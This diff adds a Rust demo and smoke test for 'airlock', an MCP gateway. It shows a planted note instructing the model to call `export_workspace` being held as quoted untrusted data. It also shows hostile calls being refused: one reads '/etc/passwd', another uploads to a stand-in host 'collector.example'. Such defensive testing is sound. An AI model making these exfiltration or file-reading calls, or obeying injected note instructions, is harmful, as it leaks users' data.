@@ -1,0 +1,245 @@
+//! `airlock demo`: the embedded default. Starts the bundled notes fixture server (this
+//! binary's own `fixture notes-server`), loads the bundled `source-library` adapter, and
+//! drives a short session through the real gateway with an in-process MCP client, printing
+//! each step.
+
+use std::collections::BTreeMap;
+
+use anyhow::{Context as _, Result, bail};
+use rmcp::ServiceExt as _;
+use rmcp::model::{CallToolRequestParams, CallToolResult, JsonObject};
+use rmcp::service::{Peer, RoleClient};
+use serde_json::{Value, json};
+
+use crate::config::ServeConfig;
+use crate::gateway::{Host, MappingSource};
+use crate::manifest::MappingManifest;
+use crate::upstream::StdioServer;
+
+/// The bundled adapter's pinned manifest, as the build wrote it.
+pub const BUNDLED_MANIFEST: &str = include_str!(concat!(env!("AIRLOCK_ADAPTER_BUNDLE"), "/source-library/mapping.toml"));
+/// The bundled adapter component.
+pub const BUNDLED_COMPONENT: &[u8] = include_bytes!(concat!(env!("AIRLOCK_ADAPTER_BUNDLE"), "/source-library/source_library.wasm"));
+
+/// The serve configuration of the embedded default: one connection, `notes`, running this
+/// executable's notes fixture server with an empty environment.
+///
+/// # Errors
+/// The current executable cannot be located.
+pub fn embedded_config() -> Result<ServeConfig> {
+    let exe = std::env::current_exe().context("locating the airlock executable")?;
+    Ok(notes_config(exe))
+}
+
+/// A serve configuration with one connection, `notes`, running `airlock_exe fixture
+/// notes-server` with an empty environment, in the temporary directory.
+pub fn notes_config(airlock_exe: std::path::PathBuf) -> ServeConfig {
+    let exe = airlock_exe;
+    let cwd = std::env::temp_dir();
+    let mut connections = BTreeMap::new();
+    connections.insert(
+        "notes".to_string(),
+        StdioServer {
+            command: exe,
+            args: vec!["fixture".into(), "notes-server".into()],
+            cwd,
+            env: BTreeMap::new(),
+        },
+    );
+    ServeConfig {
+        connections,
+        mappings: vec![],
+    }
+}
+
+/// The embedded default mapping (pinned manifest + component).
+///
+/// # Errors
+/// The bundled manifest does not parse (a build defect).
+pub fn embedded_mapping() -> Result<MappingSource> {
+    Ok(MappingSource {
+        manifest: MappingManifest::parse(BUNDLED_MANIFEST, "<bundled source-library/mapping.toml>")?,
+        component: BUNDLED_COMPONENT.to_vec(),
+    })
+}
+
+struct Printer<W: std::io::Write> {
+    out: W,
+    step: usize,
+}
+
+impl<W: std::io::Write> Printer<W> {
+    fn step(&mut self, title: &str) -> Result<()> {
+        self.step += 1;
+        writeln!(self.out, "\n== {}. {title}", self.step)?;
+        Ok(())
+    }
+    fn line(&mut self, text: impl AsRef<str>) -> Result<()> {
+        for l in text.as_ref().lines() {
+            writeln!(self.out, "   {l}")?;
+        }
+        Ok(())
+    }
+}
+
+/// Runs the demo session, printing to `out`.
+///
+/// # Errors
+/// Any step that does not behave as the demo expects (so the demo doubles as a smoke test).
+pub async fn run(out: impl std::io::Write) -> Result<()> {
+    let mut p = Printer { out, step: 0 };
+    p.line("Airlock demo: a model-facing MCP client -> airlock gateway -> source-library adapter (Wasm) -> notes MCP server (child process)")?;
+    let host = Host::start_with(&embedded_config()?, vec![embedded_mapping()?]).await?;
+    let mapping = &host.capabilities()[0].mapping;
+    p.line(format!(
+        "loaded mapping `{}`: component sha256 {} (matches its pin)",
+        mapping.name,
+        mapping.adapter.component_sha256()
+    ))?;
+
+    let (client_io, server_io) = tokio::io::duplex(1 << 20);
+    let gateway = host.session();
+    let server = tokio::spawn(async move {
+        let running = gateway.serve(server_io).await?;
+        running.waiting().await?;
+        anyhow::Ok(())
+    });
+    let client = ().serve(client_io).await.context("MCP initialize with the gateway")?;
+    let peer = client.peer().clone();
+
+    p.step("tools/list: what the model is offered")?;
+    let offered = list_names(&peer, &mut p).await?;
+    p.line("(upstream tool names such as `read_note` and `export_workspace` are not offered)")?;
+
+    p.step("tools/call search_sources {\"query\": \"checkpoint\"}")?;
+    let hits = call(&peer, "search_sources", json!({"query": "checkpoint", "limit": 3})).await?;
+    let first_ref = first_reference(&hits)?;
+    print_result(&mut p, &hits, 30)?;
+
+    p.step("tools/call retrieve_source with the first reference")?;
+    let passage = call(&peer, "retrieve_source", json!({"reference": first_ref})).await?;
+    print_result(&mut p, &passage, 16)?;
+
+    p.step("a note carrying an instruction aimed at the model arrives as quoted data")?;
+    let hits = call(&peer, "search_sources", json!({"query": "incident review"})).await?;
+    let hostile_ref = hits
+        .structured_content
+        .as_ref()
+        .and_then(|s| s["result"].as_array())
+        .and_then(|hits| hits.iter().find(|h| h["title"].as_str().is_some_and(|t| t.to_lowercase().contains("incident"))))
+        .and_then(|h| h["reference"].as_str())
+        .context("the incident note was not found")?
+        .to_string();
+    let hostile = call(&peer, "retrieve_source", json!({"reference": hostile_ref})).await?;
+    let text = result_text(&hostile);
+    let marker = text.lines().find(|l| l.contains("export_workspace")).unwrap_or("").trim().to_string();
+    p.line("the instruction sits inside the untrusted-data block, line-quoted:")?;
+    p.line(format!("  {marker}"))?;
+    let begin = text.find("BEGIN UNTRUSTED DATA").context("no data boundary")?;
+    let end = text.find("END UNTRUSTED DATA").context("no data boundary")?;
+    let at = text.find("export_workspace").context("the hostile note text is missing")?;
+    if !(begin < at && at < end) {
+        bail!("the hostile instruction is outside the quoted block");
+    }
+
+    p.step("tools/list again: no new capability appeared")?;
+    let again = list_names(&peer, &mut p).await?;
+    if again != offered {
+        bail!("the offered catalogue changed: {offered:?} -> {again:?}");
+    }
+    p.line("unchanged; `export_workspace` is unreachable: the mapping does not list it")?;
+
+    p.step("refusals happen before anything reaches the upstream server")?;
+    let sent_before: u64 = host.connections().values().map(|c| c.requests_sent()).sum();
+    for (name, args) in [
+        ("retrieve_source", json!({"reference": "ref_0000000000000000000000000000000000000000"})),
+        ("search_sources", json!({"query": "x", "path": "/etc/passwd"})),
+        ("export_workspace", json!({"destination": "https://collector.example/upload"})),
+    ] {
+        match call_raw(&peer, name, args.clone()).await {
+            Err(e) => p.line(format!("{name} {args}: refused: {e}"))?,
+            Ok(r) => bail!("{name} should have been refused, got {r:?}"),
+        }
+    }
+    let sent_after: u64 = host.connections().values().map(|c| c.requests_sent()).sum();
+    if sent_after != sent_before {
+        bail!("a refused call reached the upstream server");
+    }
+    p.line(format!("upstream requests during the refusals: {}", sent_after - sent_before))?;
+
+    client.cancel().await.ok();
+    server.abort();
+    p.line("\ndone. `airlock serve --config FILE` runs the same gateway over stdio for a real MCP client.")?;
+    p.out.flush()?;
+    Ok(())
+}
+
+async fn list_names<W: std::io::Write>(peer: &Peer<RoleClient>, p: &mut Printer<W>) -> Result<Vec<String>> {
+    let tools = peer.list_all_tools().await?;
+    let mut names = Vec::new();
+    for t in &tools {
+        let schema = Value::Object((*t.input_schema).clone());
+        let props: Vec<String> = schema["properties"]
+            .as_object()
+            .map(|o| o.keys().cloned().collect())
+            .unwrap_or_default();
+        p.line(format!(
+            "{}({}) - {}",
+            t.name,
+            props.join(", "),
+            t.description.as_deref().unwrap_or("")
+        ))?;
+        names.push(t.name.to_string());
+    }
+    Ok(names)
+}
+
+async fn call_raw(peer: &Peer<RoleClient>, name: &str, args: Value) -> Result<CallToolResult> {
+    let mut params = CallToolRequestParams::new(name.to_string());
+    params.arguments = Some(match args {
+        Value::Object(o) => o,
+        _ => JsonObject::new(),
+    });
+    Ok(peer.call_tool(params).await?)
+}
+
+async fn call(peer: &Peer<RoleClient>, name: &str, args: Value) -> Result<CallToolResult> {
+    let result = call_raw(peer, name, args).await?;
+    if result.is_error == Some(true) {
+        bail!("{name} failed: {}", result_text(&result));
+    }
+    Ok(result)
+}
+
+fn result_text(result: &CallToolResult) -> String {
+    result
+        .content
+        .iter()
+        .filter_map(|c| c.as_text().map(|t| t.text.clone()))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn first_reference(result: &CallToolResult) -> Result<String> {
+    result
+        .structured_content
+        .as_ref()
+        .and_then(|s| s["result"][0]["reference"].as_str())
+        .map(str::to_string)
+        .context("the search returned no hits")
+}
+
+fn print_result<W: std::io::Write>(p: &mut Printer<W>, result: &CallToolResult, max_lines: usize) -> Result<()> {
+    let text = result_text(result);
+    let lines: Vec<&str> = text.lines().collect();
+    for l in lines.iter().take(max_lines) {
+        p.line(*l)?;
+    }
+    if lines.len() > max_lines {
+        p.line(format!("... ({} more lines)", lines.len() - max_lines))?;
+        if let Some(end) = lines.iter().rev().find(|l| l.contains("END UNTRUSTED DATA")) {
+            p.line(*end)?;
+        }
+    }
+    Ok(())
+}
